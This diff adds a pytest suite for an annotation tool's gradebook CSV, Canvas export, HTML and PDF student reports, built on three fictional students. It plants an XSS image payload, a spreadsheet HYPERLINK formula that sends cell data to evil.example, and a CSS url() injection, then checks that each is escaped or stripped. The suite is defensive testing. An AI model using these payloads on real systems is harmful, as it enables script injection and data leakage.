@@ -1,0 +1,438 @@
+"""Reports: the gradebook and Canvas CSVs, the printable HTML reports and their PDF, on the built-in
+lesson and its answer key, with three made-up students."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import shutil
+import subprocess
+from collections import Counter
+from html.parser import HTMLParser
+
+import pytest
+
+from annotator.core.annotation import Annotation, new_annotation
+from annotator.core.grading import grade_class
+from annotator.core.lesson import Lesson
+from annotator.core.reports import (
+    CANVAS_COLUMNS,
+    StudentResult,
+    auto_score,
+    canvas_csv,
+    class_report_html,
+    final_score,
+    gradebook_columns,
+    gradebook_csv,
+    student_report_html,
+)
+from annotator.core.tags import Tag, TagSet, UnderlineStyle
+
+XSS = "<img src=x onerror=alert(1)>"
+
+
+def _note(lesson: Lesson, article_id: str, start: int, end: int, tag: str, who: str, note=""):
+    text = lesson.article(article_id).text.text
+    return new_annotation(
+        text=text,
+        start=start,
+        end=end,
+        lesson_id=lesson.id,
+        article_id=article_id,
+        tag=tag,
+        student=who,
+        note=note,
+        lesson_version=lesson.version,
+        pack_hash=lesson.content_hash,
+    )
+
+
+def _on_key(lesson: Lesson, index: int, who: str, *, tag=None, shift=(0, 0), note=""):
+    """An annotation on key span ``index``, its edges moved by ``shift``, its tag maybe changed."""
+    span = lesson.key[index]
+    start, end = span.position.start + shift[0], span.position.end + shift[1]
+    return _note(lesson, span.article_id, start, end, tag or span.tag, who, note)
+
+
+def _find(lesson: Lesson, article_id: str, phrase: str) -> tuple[int, int]:
+    start = lesson.article(article_id).text.text.index(phrase)
+    return start, start + len(phrase)
+
+
+@pytest.fixture(scope="module")
+def classroom(request) -> dict:
+    """Three students' work on the built-in lesson, graded, with the teacher's judgement."""
+    from annotator.core.builtin import builtin_lesson_path
+    from annotator.core.pack import load_pack
+
+    lesson = load_pack(builtin_lesson_path())
+    ada, grace, zora = "Ada Lovelace", "Grace Hopper", "Zora Neale Hurston"
+
+    ada_work = [
+        _on_key(lesson, 0, ada, note="ADA-NOTE crackdown is loaded"),  # the headline, exact
+        _on_key(lesson, 2, ada, shift=(0, -9)),  # shorter, still matches
+        _on_key(lesson, 3, ada),
+        _on_key(lesson, 4, ada, shift=(4, 6)),  # shifted both ways, still matches
+        _on_key(lesson, 5, ada, tag="FACT", note=XSS),  # right span, wrong tag
+        _on_key(lesson, 7, ada),  # the long quote
+        _on_key(lesson, 27, ada),  # a quote ...
+        _on_key(lesson, 28, ada, note="ADA-NOTE invasion"),  # ... with framing inside it
+        _note(lesson, "daily-kos", *_find(lesson, "daily-kos", "Daily Kos"), "FACT", ada),
+    ]
+    # Two overlapping highlights that cross (neither holds the other): a FACT and a FRAMING.
+    s, e = _find(lesson, "independent", "Donald Trump returns to the White House")
+    ada_work.append(_note(lesson, "independent", s, e, "FACT", ada))
+    ada_work.append(_note(lesson, "independent", s + 14, e + 20, "FRAMING", ada))
+
+    grace_work = [
+        _on_key(lesson, 0, grace),
+        _on_key(lesson, 16, grace, note="GRACE-NOTE crackdown again"),
+        _on_key(lesson, 17, grace),
+        _on_key(lesson, 18, grace, tag="QUOTE"),
+        _on_key(lesson, 21, grace, shift=(0, -150)),  # far too short: an extra, and a miss
+    ]
+    lost = _on_key(lesson, 30, grace)
+    grace_work.append(Annotation(**{**_asdict(lost), "orphaned": True}))
+
+    zora_work = [
+        _on_key(lesson, 0, zora, tag="FACT"),
+        _on_key(lesson, 29, zora, note="ZORA-NOTE releasing"),
+        _on_key(lesson, 33, zora),
+        _on_key(lesson, 33, zora, shift=(1, 0)),  # the same claim twice: one match, one extra
+    ]
+
+    work = {ada: ada_work, grace: grace_work, zora: zora_work}
+    grades = grade_class(work, lesson.key, lesson.match_threshold)
+    results = {
+        ada: StudentResult(
+            ada,
+            "S-001",
+            ada_work,
+            grades[ada],
+            feedback="ADA-FEEDBACK Great eye for framing.\nLook again at the Independent.",
+            annotation_feedback={
+                ada_work[4].id: "ADA-COMMENT it is a framing word",
+                grace_work[1].id: "GRACE-COMMENT must not leak",  # not Ada's: never shown
+            },
+        ),
+        grace: StudentResult(
+            grace,
+            "",
+            grace_work,
+            grades[grace],
+            override=85,
+            feedback="GRACE-FEEDBACK Good start.",
+            annotation_feedback={grace_work[1].id: "GRACE-COMMENT right"},
+        ),
+        zora: StudentResult(
+            zora,
+            "S-003",
+            zora_work,
+            grades[zora],
+            feedback='=HYPERLINK("http://evil.example/?"&A1,"x") ZORA-FEEDBACK',
+        ),
+    }
+    # Listed out of name order on purpose: every report sorts by name.
+    return {"lesson": lesson, "results": [results[zora], results[ada], results[grace]], **results}
+
+
+def _asdict(annotation: Annotation) -> dict:
+    return {name: getattr(annotation, name) for name in Annotation.__slots__}
+
+
+def _other_students_markers(name: str) -> list[str]:
+    markers = {
+        "Ada Lovelace": ["Ada Lovelace", "ADA-"],
+        "Grace Hopper": ["Grace Hopper", "GRACE-"],
+        "Zora Neale Hurston": ["Zora Neale Hurston", "ZORA-"],
+    }
+    return [m for student, found in markers.items() if student != name for m in found]
+
+
+# -- the grading the fixtures rely on -----------------------------------------------------------
+
+
+def test_the_made_up_class_grades_as_designed(classroom) -> None:
+    ada = classroom["Ada Lovelace"].grade
+    assert [m.key_index for m in ada.matches] == [0, 2, 3, 4, 7, 27, 28]
+    assert [k for _, k, _ in ada.wrong_tag] == [5]
+    assert len(ada.extras) == 3
+    grace = classroom["Grace Hopper"].grade
+    assert [m.key_index for m in grace.matches] == [0, 16, 17]
+    assert [k for _, k, _ in grace.wrong_tag] == [18]
+    assert 21 in grace.misses and len(grace.extras) == 1 and len(grace.orphaned) == 1
+    zora = classroom["Zora Neale Hurston"].grade
+    assert [m.key_index for m in zora.matches] == [29, 33] and len(zora.extras) == 1
+
+
+# -- scores ----------------------------------------------------------------------------------------
+
+
+def test_final_score_is_the_override_or_the_f1_as_a_percentage(classroom) -> None:
+    ada, grace = classroom["Ada Lovelace"], classroom["Grace Hopper"]
+    assert final_score(ada) == auto_score(ada.grade) == round(100 * ada.grade.overall.f1, 1)
+    assert final_score(grace) == 85.0
+    assert auto_score(grace.grade) == round(100 * grace.grade.overall.f1, 1)
+
+
+# -- the gradebook CSV -----------------------------------------------------------------------------
+
+
+def test_gradebook_csv_has_a_column_per_tag_and_the_right_numbers(classroom) -> None:
+    lesson = classroom["lesson"]
+    text = gradebook_csv(lesson, classroom["results"])
+    reader = csv.DictReader(io.StringIO(text, newline=""))
+    rows = list(reader)
+    assert reader.fieldnames == gradebook_columns(lesson)
+    assert reader.fieldnames[2:5] == ["FACT count", "QUOTE count", "FRAMING count"]
+    assert [r["Student"] for r in rows] == ["Ada Lovelace", "Grace Hopper", "Zora Neale Hurston"]
+
+    for row in rows:
+        result = classroom[row["Student"]]
+        counts = Counter(a.tag for a in result.annotations if not a.orphaned)
+        for tag in lesson.tags.names:
+            assert row[f"{tag} count"] == str(counts[tag])
+        overall = result.grade.overall
+        assert row["Precision (%)"] == f"{100 * overall.precision:.1f}"
+        assert row["Recall (%)"] == f"{100 * overall.recall:.1f}"
+        assert row["F1 (%)"] == f"{100 * overall.f1:.1f}"
+        assert float(row["Score (auto)"]) == auto_score(result.grade)
+        assert float(row["Final grade"]) == final_score(result)
+
+    ada, grace, zora = rows
+    assert ada["Student ID"] == "S-001" and ada["Override"] == ""
+    assert grace["Student ID"] == "" and grace["Override"] == "85.0"
+    assert grace["Final grade"] == "85.0"
+    assert ada["Feedback"].startswith("ADA-FEEDBACK") and "\n" in ada["Feedback"]
+    assert zora["Feedback"].startswith("'=HYPERLINK")  # guarded against formula injection
+
+
+# -- Canvas ----------------------------------------------------------------------------------------
+
+
+def test_canvas_csv_has_the_import_header_and_points_possible_row(classroom) -> None:
+    text = canvas_csv(
+        classroom["lesson"], classroom["results"], assignment="News claims", points_possible=20
+    )
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "News claims"]
+    assert tuple(rows[0][:5]) == CANVAS_COLUMNS
+    assert rows[1] == ["Points Possible", "", "", "", "", "20"]
+    by_name = {row[0]: row for row in rows[2:]}
+    assert list(by_name) == ["Ada Lovelace", "Grace Hopper", "Zora Neale Hurston"]
+    assert by_name["Grace Hopper"] == ["Grace Hopper", "", "", "", "", "17"]  # 85 % of 20
+    ada = classroom["Ada Lovelace"]
+    assert by_name["Ada Lovelace"][2] == "S-001"
+    assert float(by_name["Ada Lovelace"][5]) == round(final_score(ada) * 20 / 100, 2)
+    assert all(len(row) == 6 for row in rows)
+
+
+def test_canvas_csv_refuses_a_nameless_assignment(classroom) -> None:
+    with pytest.raises(ValueError, match="name"):
+        canvas_csv(classroom["lesson"], classroom["results"], assignment=" ")
+
+
+# -- the student's report --------------------------------------------------------------------------
+
+
+class _ArticleTextParser(HTMLParser):
+    """The visible text of each article body (``div.text``), labels left out, a line per block."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.articles: list[list[str]] = []
+        self._depth = 0  # div nesting inside a div.text
+        self._in_label = 0
+        self._block: list[str] | None = None
+
+    def handle_starttag(self, tag, attrs):
+        classes = (dict(attrs).get("class") or "").split()
+        if tag == "div":
+            if self._depth:
+                self._depth += 1
+            elif "text" in classes:
+                self._depth = 1
+                self.articles.append([])
+        elif self._depth and tag == "p":
+            self._block = []
+        elif self._depth and tag == "sup" and "label" in classes:
+            self._in_label += 1
+
+    def handle_endtag(self, tag):
+        if tag == "div" and self._depth:
+            self._depth -= 1
+        elif tag == "p" and self._block is not None:
+            self.articles[-1].append("".join(self._block))
+            self._block = None
+        elif tag == "sup" and self._in_label:
+            self._in_label -= 1
+
+    def handle_data(self, data):
+        if self._block is not None and not self._in_label:
+            self._block.append(data)
+
+
+def test_student_report_shows_the_whole_text_of_every_article(classroom) -> None:
+    lesson = classroom["lesson"]
+    parser = _ArticleTextParser()
+    parser.feed(student_report_html(lesson, classroom["Ada Lovelace"]))
+    assert ["\n".join(blocks) for blocks in parser.articles] == [
+        article.text.text for article in lesson.articles
+    ]
+
+
+def test_student_report_shows_the_highlights_in_their_tag_style(classroom) -> None:
+    lesson, ada = classroom["lesson"], classroom["Ada Lovelace"]
+    page = student_report_html(lesson, ada)
+    assert "<h1>Ada Lovelace (S-001)</h1>" in page
+    assert lesson.title.replace("'", "&#x27;") in page and lesson.version in page
+    labels = re.findall(r'<sup class="label"[^>]*>&nbsp;(\d+)&nbsp;([A-Z]+)&nbsp;</sup>', page)
+    assert sorted(int(n) for n, _ in labels) == list(range(1, len(ada.annotations) + 1))
+    assert Counter(tag for _, tag in labels) == Counter(a.tag for a in ada.annotations)
+    # The headline's FRAMING highlight: pink, wavy in browsers, wave in Qt.
+    headline = re.search(r'<span class="hl" style="([^"]*)">immigration crackdown</span>', page)
+    assert headline is not None
+    assert "background-color:#f4a3c8" in headline[1]
+    assert "text-decoration-style:wavy" in headline[1] and "text-underline-style:wave" in headline[1]
+    # FRAMING nested in a QUOTE: the inner words get the blend and the innermost underline.
+    inner = re.search(r'<span class="hl" style="([^"]*)">disastrous invasion</span>', page)
+    assert inner is not None and "text-underline-style:wave" in inner[1]
+    assert "background-color:#f4a3c8" not in inner[1]  # blended with the quote's colour
+    assert "text-decoration-style:dotted" in page  # QUOTE
+    assert "text-decoration-style:solid" in page  # FACT
+
+
+def test_student_report_lists_matches_wrong_tags_misses_and_feedback(classroom) -> None:
+    lesson, ada = classroom["lesson"], classroom["Ada Lovelace"]
+    page = student_report_html(lesson, ada)
+    assert "Found, with the right tag (7)" in page
+    assert "Found, but with a different tag from the key (1)" in page
+    assert f"Missed: claims in the key you did not highlight ({len(ada.grade.misses)})" in page
+    assert "Highlights that are not in the key (3)" in page
+    assert "ADA-NOTE crackdown is loaded" in page and "ADA-NOTE invasion" in page
+    assert "ADA-FEEDBACK Great eye for framing.<br>Look again" in page
+    assert "ADA-COMMENT it is a framing word" in page
+    missed = lesson.key[ada.grade.misses[0]]
+    assert _escaped(missed.note) in page  # the model answer
+    assert _escaped(missed.quote.exact) in page
+
+
+def test_student_report_holds_no_other_students_data(classroom) -> None:
+    for name in ("Ada Lovelace", "Grace Hopper", "Zora Neale Hurston"):
+        page = student_report_html(classroom["lesson"], classroom[name])
+        for marker in _other_students_markers(name):
+            assert marker not in page, (name, marker)
+
+
+class _TagCollector(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
+        self.style = ""
+        self._in_style = False
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, attrs))
+        self._in_style = tag == "style"
+
+    def handle_endtag(self, tag):
+        self._in_style = False
+
+    def handle_data(self, data):
+        if self._in_style:
+            self.style += data
+
+
+def assert_self_contained(page: str) -> None:
+    """No scripts, no resources, no links: in tags, in attributes and in CSS."""
+    collector = _TagCollector()
+    collector.feed(page)
+    names = {tag for tag, _ in collector.tags}
+    assert not names & {"script", "img", "a", "link", "iframe", "object", "embed", "form"}
+    for _tag, attrs in collector.tags:
+        for attribute, value in attrs:
+            assert attribute in {"class", "style", "lang", "charset", "cellspacing", "cellpadding", "width"}
+            assert not re.search(r"url\s*\(|(https?|file|data|javascript):", value or "", re.I)
+    assert not re.search(r"url\s*\(|@import|(https?|file|data):", collector.style, re.I)
+
+
+def test_student_report_is_self_contained_and_escapes_what_students_type(classroom) -> None:
+    page = student_report_html(classroom["lesson"], classroom["Ada Lovelace"])
+    assert_self_contained(page)
+    assert "&lt;img src=x onerror=alert(1)&gt;" in page
+    assert "<img" not in page
+
+
+def test_student_report_can_leave_the_key_out(classroom) -> None:
+    lesson, ada = classroom["lesson"], classroom["Ada Lovelace"]
+    page = student_report_html(lesson, ada, key_visible=False)
+    for index in [*ada.grade.misses, *(m.key_index for m in ada.grade.matches)]:
+        assert _escaped(lesson.key[index].note) not in page
+    assert "The answer key is not shown" in page
+    assert "ADA-NOTE invasion" in page  # the student's own work stays
+
+
+def test_student_report_never_puts_a_bad_tag_colour_into_css(classroom) -> None:
+    lesson, grace = classroom["lesson"], classroom["Grace Hopper"]
+    evil = TagSet(
+        (
+            Tag("FACT", "Fact", "red;background:url(http://evil.example/x)", UnderlineStyle.SOLID),
+            *lesson.tags.tags[1:],
+        )
+    )
+    page = student_report_html(_with_tags(lesson, evil), grace)
+    assert "evil.example" not in page and "background-color:#cccccc" in page
+
+
+def _with_tags(lesson: Lesson, tags: TagSet) -> Lesson:
+    import dataclasses
+
+    return dataclasses.replace(lesson, tags=tags)
+
+
+def _escaped(text: str) -> str:
+    import html
+
+    return html.escape(text, quote=True)
+
+
+# -- the class report ------------------------------------------------------------------------------
+
+
+def test_class_report_lists_every_student_and_every_key_span(classroom) -> None:
+    lesson = classroom["lesson"]
+    page = class_report_html(lesson, classroom["results"])
+    positions = [page.index(name) for name in ("Ada Lovelace", "Grace Hopper", "Zora Neale")]
+    assert positions == sorted(positions)
+    assert "ADA-NOTE" not in page and "FEEDBACK" not in page  # no notes, no feedback
+    difficulty = page[page.index("Which claims the class found") :]
+    # A table per article: a header row each, and a row per key span.
+    assert difficulty.count("<tr>") == len(lesson.articles) + len(lesson.key)
+    # Key span 1 (the headline's "immigration crackdown"): Ada and Grace found it, Zora mistagged.
+    first = re.search(r"<tr><td class=\"num\">1</td>(.*?)</tr>", difficulty)[1]
+    assert "immigration crackdown" in first
+    assert re.findall(r'<td class="num">([^<]*)</td>', first) == ["1", "2 (67%)", "1", "0"]
+    assert_self_contained(page)
+
+
+# -- PDF -------------------------------------------------------------------------------------------
+
+
+def test_write_pdf_renders_a_student_report(classroom, qapp, tmp_path) -> None:
+    from annotator.qt.pdf_report import write_pdf
+
+    path = tmp_path / "ada.pdf"
+    pages = write_pdf(student_report_html(classroom["lesson"], classroom["Ada Lovelace"]), path)
+    data = path.read_bytes()
+    assert data.startswith(b"%PDF") and b"%%EOF" in data[-1024:]
+    assert pages >= 1
+    if shutil.which("pdftotext") is None:
+        pytest.skip("pdftotext is not installed: the text of the PDF is not checked")
+    text = subprocess.run(
+        ["pdftotext", "-layout", str(path), "-"], capture_output=True, check=True, text=True
+    ).stdout
+    assert text.count("\f") == pages  # one form feed per page
+    assert "Ada Lovelace" in text and f"page {pages} of {pages}" in text
+    assert "immigration crackdown" in text and "FRAMING" in text
+    assert "Grace Hopper" not in text
